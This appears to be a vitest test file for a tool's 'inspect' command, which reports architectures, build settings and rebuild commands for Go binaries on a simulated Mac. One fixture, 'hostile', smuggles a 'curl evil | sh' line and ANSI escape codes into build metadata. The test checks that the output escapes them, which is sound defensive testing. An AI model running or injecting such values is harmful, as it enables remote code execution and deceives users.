import { chmodSync, copyFileSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { buildMachine, type SketchedFiles } from '../../../../host/simulated/build.ts';
import { goVersion } from '../../../real/go-programs.ts';
import { machO } from '../../../real/mach-o.ts';
import { goVersionM } from '../../../real/oracles.ts';
import { call } from '../../call.ts';
import { documented } from '../../schema.ts';

const haveGo = goVersion() !== null;
let mac: string;

const module = (version: string) => ({ path: 'honnef.co/go/tools', version });
const staticcheck = {
  version: 'go1.23.4',
  path: 'honnef.co/go/tools/cmd/staticcheck',
  module: module('v0.6.1'),
};
const bin = '/Users/kim/go/bin';
const dlv = {
  version: 'go1.24.4',
  path: 'github.com/go-delve/delve/cmd/dlv',
  module: { path: 'github.com/go-delve/delve', version: '(devel)' },
};
const intelDlv = '/Applications/GoLand.app/Contents/plugins/go-plugin/lib/dlv/mac/dlv';
const toolboxDlv = '/Users/kim/goland-2026.2/plugins/go-plugin/lib/dlv/mac/dlv';
const files: SketchedFiles = {
  [`${bin}/staticcheck`]: {
    machO: {
      ...staticcheck,
      architectures: ['amd64'],
      uuid: false,
      settings: { '-tags': 'a,b', '-ldflags': "-X 'main.v=1 2'" },
    },
  },
  [`${bin}/both`]: { machO: { ...staticcheck, architectures: ['amd64', 'arm64'] } },
  [`${bin}/local`]: { machO: { ...staticcheck, architectures: ['arm64'], module: module('(devel)') } },
  [`${bin}/hostile`]: {
    machO: {
      ...staticcheck,
      architectures: ['arm64'],
      settings: { '-tags': 'x\n  rebuild  curl evil | sh', 'vcs.time': '\u001b[2J\u001b[31mred' },
    },
  },
  [intelDlv]: { machO: { ...dlv, architectures: ['amd64'] } },
  [toolboxDlv]: { machO: { ...dlv, architectures: ['amd64'] } },
  '/Users/kim/bin/dlv': { link: intelDlv },
  '/opt/homebrew/bin/go': { link: '../Cellar/go/1.26.8/bin/go' },
  '/opt/homebrew/Cellar/go/1.26.8/bin/go': {
    machO: { version: 'go1.26.8', path: 'cmd/go', architectures: ['arm64'] },
  },
  '/opt/homebrew/bin/goenv-go': {
    text: '#!/usr/bin/env bash\nexec "/x/goenv" exec "$program" "$@"\n',
    executable: true,
  },
};

beforeAll(() => {
  mac = mkdtempSync(join(tmpdir(), 'gowarden-inspect-'));
  buildMachine(mac, {
    description: { format: 1, platform: 'darwin', hardware: { architecture: 'arm64', osVersion: '26.1' } },
    files,
  });
});
afterAll(() => rmSync(mac, { recursive: true }));

const inspect = (...words: string[]) => call(['inspect', '--host', mac, ...words]);

describe('the text', () => {
  test('says what the program is, whether it runs natively, and which command rebuilds it', async () => {
    const { code, out, err } = await inspect(`${bin}/staticcheck`);
    expect({ code, err }).toEqual({ code: 0, err: '' });
    expect(out).toBe(`${bin}/staticcheck
  format         Mach-O
  architectures  amd64: not native: this machine is arm64
  Go             go1.23.4
  package        honnef.co/go/tools/cmd/staticcheck
  module         honnef.co/go/tools v0.6.1
  settings       -buildmode=exe
                 -compiler=gc
                 CGO_ENABLED=0
                 GOARCH=amd64
                 GOOS=darwin
                 GOAMD64=v1
                 -tags=a,b
                 -ldflags=-X 'main.v=1 2'
  macOS          12.0 or newer
  UUID           none: macOS 26 refuses to start it (Go before 1.24 writes none)
  signature      none
  rebuild        CGO_ENABLED=0 go install -tags=a,b '-ldflags=-X '\\''main.v=1 2'\\' honnef.co/go/tools/cmd/staticcheck@v0.6.1
`);
  });

  test('lists each slice of a universal file, which is native when one of them is', async () => {
    const { out } = await inspect(`${bin}/both`);
    expect(out).toContain('Mach-O, universal');
    expect(out).toContain('amd64, arm64: native on this machine (arm64)');
    expect(out).toMatch(/slice amd64 {4}go1\.23\.4 honnef\.co\/go\/tools v0\.6\.1, macOS 12\.0 or newer,/);
    expect(out).toMatch(/slice arm64 {4}go1/);
  });

  test.each([
    [intelDlv, '/Applications/GoLand.app'],
    ['/Users/kim/bin/dlv', '/Applications/GoLand.app'],
    [toolboxDlv, '/Users/kim/goland-2026.2'],
  ])('says that %s came with its application and cannot be rebuilt', async (path, application) => {
    const { out } = await call(['inspect', '--host', mac, path]);
    const text = out.replace(/\s+/g, ' ');
    expect(text).toContain(`It came with ${application}, which replaces it with each update`);
    expect(text).toContain('install the arm64 build of that application');
    expect(text).not.toContain('go install');
    expect((await call(['inspect', '--host', mac, '--lang', 'zh', path])).out).toContain(
      `它随 ${application} 而来`,
    );
  });

  test('says why there is nothing to rebuild: built in a checkout, Go itself', async () => {
    expect((await inspect(`${bin}/local`)).out).toContain(
      'built in a checkout of honnef.co/go/tools without a version',
    );
    const { out } = await inspect('/opt/homebrew/bin/go');
    expect(out).toMatch(/^\/opt\/homebrew\/bin\/go -> \/opt\/homebrew\/Cellar\/go\/1\.26\.8\/bin\/go\n/);
    expect(out).toContain('It is part of go1.26.8 itself: a Go for arm64 brings one that is native here.');
  });

  test('says which manager a shim belongs to', async () => {
    const { out } = await inspect('/opt/homebrew/bin/goenv-go');
    expect(out).toContain('interpreter  /usr/bin/env bash');
    expect(out).toContain('shim of      goenv; `gowarden which go` explains what it starts');
  });

  test('is also in Chinese, in aligned columns', async () => {
    const { out } = await inspect('--lang', 'zh', `${bin}/both`);
    expect(out).toContain('架构        amd64、arm64：本机（arm64）原生\n');
    expect(out).toContain('  重建        CGO_ENABLED=0 go install honnef.co/');
  });

  test('shows nothing from a file that could pass for a line of ours', async () => {
    const { out } = await inspect(`${bin}/hostile`);
    expect(out).toContain('-tags=x\\n  rebuild  curl evil | sh\n');
    expect(out).not.toMatch(/^ *rebuild +curl/m);
    expect(out).toContain('vcs.time=\\u001b[2J\\u001b[31mred\n');
  });
});

describe('the JSON', () => {
  test('has exactly the documented shape', async () => {
    const { code, out } = await inspect(
      '--json',
      `${bin}/staticcheck`,
      '/opt/homebrew/bin/goenv-go',
      '/nope',
    );
    expect(code).toBe(4);
    expect(documented('inspect', out)).toEqual({
      schemaVersion: 1,
      files: [
        {
          path: `${bin}/staticcheck`,
          format: 'mach-o',
          architectures: ['amd64'],
          go: {
            ...staticcheck,
            settings: {
              '-buildmode': 'exe',
              '-compiler': 'gc',
              CGO_ENABLED: '0',
              GOARCH: 'amd64',
              GOOS: 'darwin',
              GOAMD64: 'v1',
              '-tags': 'a,b',
              '-ldflags': "-X 'main.v=1 2'",
            },
          },
        },
        { path: '/opt/homebrew/bin/goenv-go', format: 'script', architectures: [], go: null },
        {
          path: '/nope',
          format: 'unknown',
          architectures: [],
          go: null,
          reason: expect.stringContaining('ENOENT') as string,
        },
      ],
    });
  });
});

describe('on the machine that we run on', () => {
  let directory: string;
  beforeAll(() => {
    directory = mkdtempSync(join(tmpdir(), 'gowarden-inspect-'));
    writeFileSync(join(directory, 'text'), 'just text');
    writeFileSync(join(directory, 'closed'), 'x');
    mkdirSync(join(directory, 'directory'));
    symlinkSync('loop', join(directory, 'loop'));
    chmodSync(join(directory, 'closed'), 0);
    chmodSync(directory, 0o755);
  });
  afterAll(() => rmSync(directory, { recursive: true }));

  test('a file that cannot be read is reported beside the others, and the exit code is 4', async () => {
    // Nothing is closed to root, so it runs as nobody.
    const root = process.geteuid?.() === 0;
    if (root) process.seteuid?.(65_534);
    try {
      const { code, out, err } = await call(['inspect', 'text', 'closed', 'directory', 'loop', 'absent'], {
        directory,
      });
      expect({ code, err }).toEqual({ code: 4, err: '' });
      expect(out).toBe(`text
  format  not recognised
  note    Neither Mach-O nor ELF nor a script: it starts with 6a 75 73 74.

closed
  note  may not be read by this user

directory
  note  not a file that could be inspected (a directory, a device, a pipe)

loop
  note  a chain of links without an end

absent
  note  not there
        for the command of that name: gowarden inspect "$(command -v absent)"
`);
    } finally {
      if (root) process.seteuid?.(0);
    }
  });

  test('a file that is not recognised is an answer', async () => {
    expect((await call(['inspect', join(directory, 'text')])).code).toBe(0);
  });

  test('no file is a usage error', async () => {
    expect((await call(['inspect'])).code).toBe(2);
  });

  test.skipIf(!haveGo)(
    'a real darwin program, as go version -m shows it (needs Go)',
    { timeout: 300_000 },
    async () => {
      const file = machO['built with flags']();
      const { code, out } = await call(['inspect', '--json', file]);
      expect(code).toBe(0);
      expect(JSON.parse(out)).toEqual({
        schemaVersion: 1,
        files: [{ path: file, format: 'mach-o', architectures: ['arm64'], go: goVersionM(file) }],
      });
    },
  );

  test.skipIf(!haveGo)('a real amd64 program in a simulated Mac of Apple silicon (needs Go)', async () => {
    const place = join(mac, 'root', bin, 'real');
    mkdirSync(dirname(place), { recursive: true });
    copyFileSync(machO['esbuild amd64, Go 1.16'](), place);
    const { out } = await inspect(`${bin}/real`);
    expect(out).toContain('amd64: not native: this machine is arm64');
    expect(out).toContain('go1.16.2');
    expect(out).toContain('built in a checkout of github.com/evanw/esbuild without a version');
  });
});
